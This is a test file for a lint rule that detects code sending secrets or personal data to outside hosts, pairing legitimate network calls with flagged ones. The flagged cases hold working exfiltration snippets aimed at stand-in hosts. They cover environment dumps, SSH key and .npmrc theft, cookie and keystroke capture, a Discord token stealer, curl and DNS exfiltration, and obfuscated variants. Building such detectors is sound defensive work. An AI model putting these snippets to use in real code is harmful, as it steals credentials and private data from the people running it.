import rule from '../../rules/exfiltration-flow.js';
import { ruleTester } from '../rule-tester.js';

const N = 'const https = require("https"), os = require("os"), fs = require("fs"), path = require("path");\n';

ruleTester(rule, {
  valid: [
    // A method of a local class sending ordinary data.
    "class Logger { send(d) { return fetch('https://logs.example/api', { method: 'POST', body: d }); } }\nnew Logger().send(JSON.stringify({ level: 'info', msg: 'started' }));",
    // A helper given something other than process.
    "function send({ env }) { fetch('https://x.example', { method: 'POST', body: JSON.stringify(env) }); }\nsend({ env: 'prod' });",
    { name: 'an HTTP client adapter', code: 'const http = require("http"), https = require("https");\nmodule.exports = function httpAdapter(config) {\n  return new Promise((resolve, reject) => {\n    const options = { hostname: config.host, path: config.path, method: config.method, headers: config.headers, auth: config.auth };\n    const transport = config.protocol === "https:" ? https : http;\n    const req = transport.request(options, resolve);\n    req.on("error", reject);\n    if (config.data) req.write(config.data);\n    req.end();\n  });\n};' },
    'const dns = require("dns/promises"), os = require("os");\nawait dns.lookup(os.hostname());',
    'fetch("http://localhost:9000/envelope", { method: "POST", body: JSON.stringify({ a: process.env.SENTRY_AUTH_TOKEN, b: process.env.TEST_SECRET }) });',
    { name: 'analytics sends one named cookie', code: 'const cid = document.cookie.match(/_ga=([^;]+)/)[1];\nnew Image().src = "https://www.google-analytics.com/collect?cid=" + cid;' },
    'fetch("https://api.github.com/user", { headers: { Authorization: `Bearer ${process.env.GITHUB_TOKEN}` } });',
    // A service's own secret sent to that service, as data or in a query.
    'fetch("https://api.github.com/graphql", { method: "POST", body: JSON.stringify({ token: process.env.GITHUB_TOKEN }) });',
    'fetch(`https://sts.amazonaws.com/?Action=GetCallerIdentity&k=${process.env.AWS_ACCESS_KEY_ID}`);',
    // A self-hosted instance of the service (a private npm registry).
    'fetch("https://npm.corp.example/-/user/org.couchdb.user:ci", { method: "PUT", body: JSON.stringify({ name: "ci", password: process.env.NPM_PASSWORD }) });',
    'fetch(`${process.env.API_URL}/users`); fetch(process.env.BASE_URL + "/x", { body: JSON.stringify({ mode: process.env.NODE_ENV }) });',
    'const axios = require("axios");\naxios.get("https://maps.googleapis.com/maps/api/geocode/json?address=x&key=" + process.env.GOOGLE_API_KEY);',
    'fetch("/api/login", { method: "POST", body: JSON.stringify({ user: document.getElementById("user").value, password: document.getElementById("password").value }) });',
    N + 'https.get("https://registry.npmjs.org/" + name, (res) => res.pipe(process.stdout));',
    N + 'fetch("https://telemetry.example.com/v1", { method: "POST", body: JSON.stringify({ platform: os.platform(), arch: os.arch(), node: process.version }) });',
    'const config = { url: "https://api.example.com", token: process.env.API_TOKEN };\nfetch(config.url, { headers: { authorization: config.token } });',
    'fetch("https://api.example.com/me", { headers: { Authorization: "Bearer " + localStorage.getItem("token") } });',
    N + 'const id = require("crypto").createHash("sha256").update(os.hostname()).digest("hex");\nfetch("https://t.example.com", { method: "POST", body: JSON.stringify({ id }) });',
    'document.addEventListener("keydown", (e) => { if (e.key === "Escape") close(); });\nfetch("/api/ping");',
    'input.addEventListener("input", (e) => fetch("/search?q=" + encodeURIComponent(e.target.value)));',
    'fetch("/api", { method: "POST", headers: { "X-CSRF-Token": document.cookie.match(/csrf=([^;]+)/)[1] } });',
    'console.log(Object.keys(process.env)); fetch("https://example.com");',
    N + 'const req = https.request({ hostname: process.env.PROXY_HOST, port: process.env.PROXY_PORT, method: "GET" });\nreq.end();',
    N + 'const home = os.homedir();\nconst cfg = fs.readFileSync(path.join(home, ".mytool", "config.json"), "utf8");\nfetch("https://api.mytool.dev/sync", { method: "POST", body: cfg });',
    'const ws = new WebSocket("wss://chat.example.com"); ws.send(JSON.stringify({ text: message }));',
    N + 'https.request("https://ingest.example.com", { method: "POST" }).end(JSON.stringify({ ok: true, user: "x" }));',
    'fetch("http://localhost:3000/debug", { method: "POST", body: JSON.stringify(process.env) });',
    'const { exec } = require("child_process");\nexec(`curl -H "Authorization: token ${process.env.GITHUB_TOKEN}" https://api.github.com/user`);',
    {
      name: 'a fetch wrapper whose headers carry registry credentials (corepack)',
      code: [
        'async function get(input, init) {',
        '  let headers = init?.headers;',
        '  const password = process.env.REG_PASSWORD;',
        '  if (password) headers = { ...headers, authorization: `Basic ${Buffer.from(`u:${password}`).toString("base64")}` };',
        '  return globalThis.fetch(input, { ...init, headers });',
        '}',
        'const headers = {};',
        'if (process.env.REG_TOKEN) headers.authorization = `Bearer ${process.env.REG_TOKEN}`;',
        'get("https://registry.example.com/x", { headers });',
      ].join('\n'),
    },
    {
      name: 'an error reporter sends the host name as server_name (Sentry)',
      code: 'const os = require("os");\nconst event = { server_name: process.env.SENTRY_NAME || os.hostname(), message };\nfetch(dsnUrl, { method: "POST", body: JSON.stringify(event) });',
    },
  ],
  invalid: [
    // Methods take data from their call sites too: on an instance, on a literal object, through `this`.
    {
      code: "class Reporter { send(d) { return fetch('https://collect.example/api', { method: 'POST', body: d }); } }\nnew Reporter().send(JSON.stringify(process.env));",
      errors: [{ messageId: 'flow', line: 1, column: 35, message: 'the whole environment' }],
    },
    {
      code: "const api = { send(d) { return fetch('https://collect.example/api', { method: 'POST', body: d }); } };\napi.send(JSON.stringify(process.env));",
      errors: [{ messageId: 'flow', line: 1, column: 32 }],
    },
    {
      code: "class C { run() { this.post(process.env); } post(data) { require('https').request({ host: 'x.example', method: 'POST' }).end(JSON.stringify(data)); } }\nconst c = new C(); c.run();",
      errors: [{ messageId: 'flow', line: 1, column: 58 }],
    },
    // `process` handed to a local helper that reads its environment.
    {
      code: "function send({ env }) {\n  fetch('https://x.example', { method: 'POST', body: JSON.stringify(env) });\n}\nsend(process);",
      errors: [{ messageId: 'flow', line: 2, column: 3, message: 'the whole environment' }],
    },
    { code: "const g = (p) => fetch('https://x.example', { method: 'POST', body: JSON.stringify(p.env) });\ng(process);", errors: [{ messageId: 'flow', line: 1, column: 18 }] },
    // One service's secret sent as data to some other host.
    {
      code: 'const t = process.env.NPM_TOKEN;\nfetch("https://x.example/c", { method: "POST", body: t });',
      errors: [{ messageId: 'flow', line: 2, column: 1, message: "with a secret for npm, to a host that is not npm's" }],
    },
    { code: 'require("axios").post("https://collector.example.net/t", { token: process.env.GITHUB_TOKEN });', errors: [{ messageId: 'flow', line: 1, column: 1, message: 'secret for GitHub' }] },
    { code: 'fetch("https://x.example/?k=" + process.env.AWS_SECRET_ACCESS_KEY);', errors: [{ messageId: 'flow', line: 1, column: 1, message: 'secret for AWS' }] },
    { code: 'const data = {};\nfor (let i = 0; i < localStorage.length; i++) data[localStorage.key(i)] = localStorage.getItem(localStorage.key(i));\nfetch("https://x.example/s", { method: "POST", body: JSON.stringify(data) });', errors: [{ messageId: 'flow', line: 3, column: 1, message: 'all of web storage' }] },
    { code: 'const jar = document.cookie.split("; ");\nnavigator.sendBeacon("https://x.example/c", jar.join("&"));', errors: [{ messageId: 'flow', line: 2, column: 1, message: 'cookies' }] },
    { code: 'var Firebase = require("firebase");\nvar ref = new Firebase("https://abcde-fg-1234.firebaseio.com/");\nref.child("env_vars").push({ status: "leaked", message: process.env });', errors: [{ messageId: 'flow', line: 3, column: 1, message: 'Firebase' }] },
    {
      code: N + 'fs.createReadStream(path.join(os.homedir(), ".npmrc")).pipe(https.request({ host: "x.example", method: "POST" }));',
      errors: [{ messageId: 'flow', line: 2, column: 1, message: 'pipe to request' }],
    },
    {
      name: 'the environment reached through Reflect.get, descriptors, folded keys and import("process")',
      code: [
        'fetch("https://a.example", { method: "POST", body: JSON.stringify(Reflect.get(process, "env")) });',
        'fetch("https://b.example", { method: "POST", body: JSON.stringify(Object.getOwnPropertyDescriptor(process, "env").value) });',
        'fetch("https://c.example", { method: "POST", body: JSON.stringify(process[["e", "n", "v"].join("")]) });',
        'import("process").then((p) => fetch("https://f.example", { method: "POST", body: JSON.stringify(p.env) }));',
      ].join('\n'),
      filename: 'x.mjs',
      errors: [
        { messageId: 'flow', line: 1, column: 1 },
        { messageId: 'flow', line: 2, column: 1 },
        { messageId: 'flow', line: 3, column: 1 },
        { messageId: 'flow', line: 4, column: 31 },
      ],
    },
    {
      name: 'a Promise executor resolving the environment',
      code: 'new Promise((res) => res(process.env)).then((e) => fetch("https://x.example", { method: "POST", body: JSON.stringify(e) }));',
      errors: [{ messageId: 'flow', line: 1, column: 52 }],
    },
    {
      name: 'methods of local classes and literal objects return identity',
      code: 'class C { collect() { return require("os").userInfo(); } }\nconst util = { env() { return process.env; } };\nfetch("https://x.example/?h=" + new C().collect().username);\nfetch("https://y.example", { method: "POST", body: JSON.stringify(util.env()) });',
      errors: [{ messageId: 'flow', line: 3, column: 1 }, { messageId: 'flow', line: 4, column: 1 }],
    },
    {
      name: 'destructured process.env copied with Object.assign',
      code: 'const p = process; const { env: e } = p;\nconst snapshot = {}; Object.assign(snapshot, e);\nrequire("node:http").request("http://x.example/c", { method: "POST" }).end(JSON.stringify(snapshot));',
      errors: [{ messageId: 'flow', line: 3, column: 1 }],
    },
    {
      name: 'token stores read in a loop and sent to a webhook through a helper',
      code: [
        'const fs = require("fs"), path = require("path"), https = require("https");',
        'const paths = { Discord: process.env.APPDATA + "/discord", Canary: process.env.APPDATA + "/discordcanary" };',
        'for (const [name, p] of Object.entries(paths)) {',
        '  const dir = p + "/Local Storage/leveldb";',
        '  for (const file of fs.readdirSync(dir)) send(name, fs.readFileSync(path.join(dir, file), "utf8").match(/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}/g));',
        '}',
        'function send(name, t) {',
        '  https.request({ hostname: "discord.com", path: "/api/webhooks/1/x", method: "POST" }).end(JSON.stringify({ content: name + t.join() }));',
        '}',
      ].join('\n'),
      errors: [{ messageId: 'flow', line: 8, column: 3, message: 'Discord webhook' }],
    },
    {
      code: 'fetch("https://api.example.com/c", { method: "POST", body: JSON.stringify({ token: process.env.NPM_TOKEN, npmToken: process.env.NODE_AUTH_TOKEN }) });',
      errors: [{ messageId: 'flow', line: 1, column: 1, message: 'several secrets' }],
    },
    {
      code: N + 'https.request({ hostname: "x.example", method: "POST" }).end(JSON.stringify(process.env));',
      errors: [{ messageId: 'flow', line: 2, column: 1, message: 'the whole environment (process.env) flows to `request.end`' }],
    },
    {
      code: N + 'const data = JSON.stringify({ env: process.env, host: os.hostname(), user: os.userInfo().username });\nconst req = https.request({ hostname: "collector.example", path: "/c", method: "POST" }, () => {});\nreq.write(data);\nreq.end();',
      errors: [{ messageId: 'flow', line: 4, column: 1, message: 'machine identity' }],
    },
    {
      code: 'fetch("https://x.example/c", { method: "POST", body: Buffer.from(JSON.stringify(process.env)).toString("base64") });',
      errors: [{ messageId: 'flow', line: 1, column: 1 }],
    },
    {
      code: 'const axios = require("axios"), os = require("os");\naxios.post("https://x.example", { h: os.hostname(), u: os.userInfo().username });',
      errors: [{ messageId: 'flow', line: 2, column: 1, message: 'os.hostname()' }],
    },
    {
      code: N + 'const key = fs.readFileSync(path.join(os.homedir(), ".ssh/id_rsa"), "utf8");\nfetch("https://x.example", { method: "POST", body: key });',
      errors: [{ messageId: 'flow', line: 3, column: 1, message: 'credential file contents' }],
    },
    {
      code: N + 'fs.readFile(os.homedir() + "/.npmrc", "utf8", (err, data) => {\n  https.get("https://x.example/?d=" + encodeURIComponent(data));\n});',
      errors: [{ messageId: 'flow', line: 3, column: 3 }],
    },
    {
      code: 'const { exec } = require("child_process");\nexec("whoami", (e, out) => fetch("https://x.example/?u=" + out));',
      errors: [{ messageId: 'flow', line: 2, column: 28 }],
    },
    {
      code: N + 'function send(d) { const r = https.request({ host: "x.example", method: "POST" }); r.write(d); r.end(); }\nsend(JSON.stringify(process.env));',
      errors: [{ messageId: 'flow', line: 2, column: 84 }],
    },
    {
      code: 'let buf = "";\ndocument.addEventListener("keydown", (e) => { buf += e.key; });\nsetInterval(() => { navigator.sendBeacon("https://x.example/k", buf); buf = ""; }, 5000);',
      errors: [{ messageId: 'flow', line: 3, column: 21, message: 'keystrokes' }],
    },
    { code: 'new Image().src = "https://x.example/c?c=" + document.cookie;', errors: [{ messageId: 'flow', line: 1, column: 1, message: 'cookies' }] },
    {
      code: 'const ws = new WebSocket("wss://x.example");\nws.onopen = () => ws.send(JSON.stringify(localStorage));',
      errors: [{ messageId: 'flow', line: 2, column: 19, message: 'web storage' }],
    },
    { code: 'fetch("https://webhook.site/abc?t=" + process.env.NPM_TOKEN);', errors: [{ messageId: 'flow', line: 1, column: 1, message: 'webhook' }] },
    {
      code: 'fetch("https://api.example.com/collect", { method: "POST", body: JSON.stringify({ a: process.env.NPM_TOKEN, b: process.env.GITHUB_TOKEN }) });',
      errors: [{ messageId: 'flow', line: 1, column: 1, message: 'several secrets' }],
    },
    {
      code: 'const { execSync } = require("child_process");\nexecSync(`curl -s -d "${Buffer.from(JSON.stringify(process.env)).toString("base64")}" https://x.example/e`);',
      errors: [{ messageId: 'flow', line: 2, column: 1, message: 'curl' }],
    },
    {
      code: 'const dgram = require("dgram"), os = require("os");\nconst s = dgram.createSocket("udp4");\ns.send(Buffer.from(os.hostname()), 53, "x.example");',
      errors: [{ messageId: 'flow', line: 3, column: 1 }],
    },
    {
      code: 'const net = require("net");\nconst c = net.connect(443, "x.example", () => c.write(JSON.stringify(process.env)));',
      errors: [{ messageId: 'flow', line: 2, column: 47 }],
    },
    {
      code: 'navigator.clipboard.readText().then((t) => fetch("https://x.example", { method: "POST", body: t }));',
      errors: [{ messageId: 'flow', line: 1, column: 44, message: 'clipboard' }],
    },
    {
      code: 'const axios = require("axios"), os = require("os");\nconst info = {};\ninfo.env = process.env;\naxios.post("https://x.example", info);',
      errors: [{ messageId: 'flow', line: 4, column: 1 }],
    },
    {
      code: 'const x = new XMLHttpRequest();\nx.open("POST", "https://x.example");\nx.send(JSON.stringify(process.env));',
      errors: [{ messageId: 'flow', line: 3, column: 1 }],
    },
    {
      code: 'const p = document.querySelector("input[type=password]").value;\nnew Image().src = "https://x.example/?p=" + btoa(p);',
      errors: [{ messageId: 'flow', line: 2, column: 1, message: 'password or card input' }],
    },
    {
      code: 'const dns = require("dns"), os = require("os");\ndns.lookup(Buffer.from(os.hostname()).toString("hex") + ".x.example", () => {});',
      errors: [{ messageId: 'flow', line: 2, column: 1 }],
    },
    {
      code: 'const h = require("ht" + "tps");\nconst e = globalThis["pro" + "cess"]["en" + "v"];\nh["req" + "uest"]({ host: "x.example", method: "POST" }).end(JSON.stringify(e));',
      errors: [{ messageId: 'flow', line: 3, column: 1 }],
    },
    {
      code: 'const entries = Object.keys(process.env).map((k) => `${k}=${process.env[k]}`);\nfetch("https://x.example/?d=" + entries.join("&"));',
      errors: [{ messageId: 'flow', line: 2, column: 1 }],
    },
  ],
});
